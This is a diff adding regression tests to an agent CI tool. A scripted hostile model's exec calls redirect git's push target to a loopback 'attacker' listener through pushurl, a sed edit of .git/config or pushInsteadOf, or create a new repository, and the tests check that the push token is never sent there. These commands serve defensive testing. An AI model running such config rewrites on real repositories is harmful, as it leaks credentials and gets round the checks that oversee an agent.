@@ -1,15 +1,20 @@
 //! Attacks on the git step and on the repository, end to end: the real
 //! binary, a scripted hostile model whose `exec` calls rewrite git's
 //! configuration, plant hooks or write into skill folders, real
-//! repositories, and a real `git commit` run afterwards the way a workflow
-//! would.
+//! repositories, a real loopback listener standing in for an attacker's
+//! server, and a real `git commit` run afterwards the way a workflow would.
 //!
 //! Each attack is tried as root and as an unprivileged user and judged by
-//! its side effect: which marker files exist, what the files hold.
+//! its side effect: what the listener received, what the remote holds,
+//! which marker files exist, what the files hold.
 
-use std::path::Path;
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
+use std::sync::{Arc, Mutex};
 
+use git2::Repository;
 use serde_json::json;
 
 use super::git_output::init_repo;
@@ -20,6 +25,61 @@ use super::support::users::RunAs;
 
 const TOKEN: &str = "tok-4f1c9e-pinned-push-secret";
 const BRANCH: &str = "agentci/fix";
+
+/// A loopback HTTP server that records every request it gets and answers
+/// each with `401` asking for Basic credentials, as a git host would: a
+/// client holding a token sends it on the next request.
+struct Listener {
+    port: u16,
+    received: Arc<Mutex<Vec<String>>>,
+}
+
+impl Listener {
+    fn start() -> Listener {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let received = Arc::new(Mutex::new(Vec::new()));
+        let log = received.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+                let mut request = Vec::new();
+                let mut buf = [0u8; 4096];
+                while !request.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match stream.read(&mut buf) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => request.extend_from_slice(&buf[..n]),
+                    }
+                }
+                log.lock()
+                    .unwrap()
+                    .push(String::from_utf8_lossy(&request).into_owned());
+                let _ = stream.write_all(
+                    b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\n\
+                      Content-Length: 0\r\nConnection: close\r\n\r\n",
+                );
+            }
+        });
+        Listener { port, received }
+    }
+
+    fn url(&self) -> String {
+        format!("http://127.0.0.1:{}/x.git", self.port)
+    }
+
+    fn received(&self) -> Vec<String> {
+        self.received.lock().unwrap().clone()
+    }
+
+    /// Whether any request carried the token, in the clear or as Basic auth.
+    fn got_the_token(&self) -> bool {
+        let basic = data_encoding::BASE64.encode(format!("x-access-token:{TOKEN}").as_bytes());
+        self.received()
+            .iter()
+            .any(|r| r.contains(TOKEN) || r.contains(&basic))
+    }
+}
 
 /// A job in `sb` (workspace `ws`, skill outside it) whose model runs each
 /// of `commands` with `exec`, one turn each, then writes NOTES.md.
@@ -99,6 +159,120 @@ fn workflow_git(dir: &Path, args: &[&str]) -> Output {
         .env("GIT_CONFIG_NOSYSTEM", "1")
         .output()
         .unwrap()
+}
+
+/// A local bare repository for the pinned remote.
+fn bare_remote(sb: &Sandbox) -> PathBuf {
+    let dir = sb.path().join("remote.git");
+    Repository::init_bare(&dir).unwrap();
+    dir
+}
+
+fn branch_arrived(bare: &Path) -> bool {
+    Repository::open_bare(bare)
+        .unwrap()
+        .find_reference(&format!("refs/heads/{BRANCH}"))
+        .is_ok()
+}
+
+// ------------------------------------------------- the push token
+
+/// Regression: a sandboxed `exec` rewrote where `origin` pushes
+/// (`remote.origin.pushurl`, the remote's url in `.git/config`, or a
+/// `pushInsteadOf` rule for a URL remote), and agentci's git step, which
+/// read the remote only at push time, sent `Authorization: Basic
+/// x-access-token:<token>` to the attacker's listener, even with the
+/// network off. The push goes to the remote as seen before the run.
+#[test]
+fn the_push_token_goes_only_to_the_remote_seen_before_the_run() {
+    for user in RunAs::each() {
+        for sandbox in ["", "sandbox: off"] {
+            for attack in ["pushurl", "url", "pushInsteadOf"] {
+                let what = format!("{attack} as {} `{sandbox}`", user.label());
+                let listener = Listener::start();
+                let sb = Sandbox::new();
+                let repo = init_repo(&sb.workspace(), &[("README.md", "# demo\n")]);
+                let bare = bare_remote(&sb);
+                let bare_url = format!("file://{}", bare.display());
+                let (remote, command) = match attack {
+                    "pushurl" => {
+                        repo.remote("origin", bare.to_str().unwrap()).unwrap();
+                        (
+                            "origin".to_string(),
+                            format!("git config remote.origin.pushurl {}", listener.url()),
+                        )
+                    }
+                    "url" => {
+                        repo.remote("origin", bare.to_str().unwrap()).unwrap();
+                        (
+                            "origin".to_string(),
+                            format!("sed -i 's#url = .*#url = {}#' .git/config", listener.url()),
+                        )
+                    }
+                    _ => (
+                        bare_url.clone(),
+                        format!("git config url.{}.pushInsteadOf {bare_url}", listener.url()),
+                    ),
+                };
+                let model = FakeModel::start(script(&[command]));
+                job(
+                    &sb,
+                    &model.base_url(),
+                    &format!(
+                        "{sandbox}\noutputs:\n  commit: {{branch: {BRANCH}}}\n  \
+                         push: {{remote: \"{remote}\", token_env: GH_PUSH_TOKEN}}\n"
+                    ),
+                );
+                let (out, trace) = run(&sb, user);
+                assert!(
+                    !listener.got_the_token(),
+                    "{what}: the listener got the token: {:?}",
+                    listener.received()
+                );
+                assert_eq!(
+                    out.status.code(),
+                    Some(0),
+                    "{what}: stderr: {}",
+                    stderr(&out)
+                );
+                assert_eq!(events(&trace, "git.push").len(), 1, "{what}");
+                assert!(
+                    branch_arrived(&bare),
+                    "{what}: the branch is not on the remote"
+                );
+                assert!(listener.received().is_empty(), "{what}");
+            }
+        }
+    }
+}
+
+/// The control for the test above: a remote that was an http URL before
+/// the run gets the token, so the listener would have seen it.
+#[test]
+fn the_push_token_goes_to_the_https_remote_the_job_names() {
+    for user in RunAs::each() {
+        let listener = Listener::start();
+        let sb = Sandbox::new();
+        let repo = init_repo(&sb.workspace(), &[("README.md", "# demo\n")]);
+        repo.remote("origin", &listener.url()).unwrap();
+        let model = FakeModel::start(script(&[]));
+        job(
+            &sb,
+            &model.base_url(),
+            &format!(
+                "outputs:\n  commit: {{branch: {BRANCH}}}\n  \
+                 push: {{remote: origin, token_env: GH_PUSH_TOKEN}}\n"
+            ),
+        );
+        let (out, _) = run(&sb, user);
+        assert_eq!(out.status.code(), Some(1), "stderr: {}", stderr(&out));
+        assert!(
+            listener.got_the_token(),
+            "as {}: {:?}",
+            user.label(),
+            listener.received()
+        );
+    }
 }
 
 // ------------------------------------------------- hooks and fsmonitor
@@ -251,5 +425,55 @@ fn exec_cannot_write_skill_folders_inside_the_workspace() {
         assert!(!sb.workspace().join(".agents/skills/moved").exists());
         // The workspace itself stays writable.
         assert_eq!(sb.read("ws/NOTES.md"), "notes\n", "{what}");
+    }
+}
+
+// ------------------------------------------------- a repository made during the run
+
+/// Regression: with the workspace a folder inside the repository, `exec`
+/// ran `git init` there, and the git step, which looked for the
+/// repository again after the run, committed into the new one (history the
+/// agent wrote) and pushed that with the token. The repository is the one
+/// found before the run; another one stops the step.
+#[test]
+fn a_repository_made_during_the_run_gets_no_commit_and_no_push() {
+    for user in RunAs::each() {
+        let what = user.label();
+        let sb = Sandbox::new();
+        let repo = init_repo(
+            &sb.workspace(),
+            &[("README.md", "# demo\n"), ("app/main.txt", "app\n")],
+        );
+        let bare = bare_remote(&sb);
+        repo.remote("origin", bare.to_str().unwrap()).unwrap();
+        let model = FakeModel::start(script(&[
+            "git init -q . && git -c user.name=a -c user.email=a@example.com commit -q \
+             --allow-empty -m 'history the agent wrote'"
+                .to_string(),
+        ]));
+        job(
+            &sb,
+            &model.base_url(),
+            &format!(
+                "outputs:\n  commit: {{branch: {BRANCH}}}\n  \
+                 push: {{remote: origin, token_env: GH_PUSH_TOKEN}}\n"
+            ),
+        );
+        let job_file = sb
+            .read("job.yaml")
+            .replace("workspace: ws\n", "workspace: ws/app\n");
+        sb.write("job.yaml", &job_file);
+        let (out, trace) = run(&sb, user);
+        assert_eq!(out.status.code(), Some(1), "{what}: {}", stderr(&out));
+        let reason = trace.last().unwrap()["reason"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        assert!(
+            reason.contains("not the one it was in before the run"),
+            "{what}: {reason}"
+        );
+        assert!(events(&trace, "git.commit").is_empty(), "{what}");
+        assert!(!branch_arrived(&bare), "{what}: the branch was pushed");
     }
 }
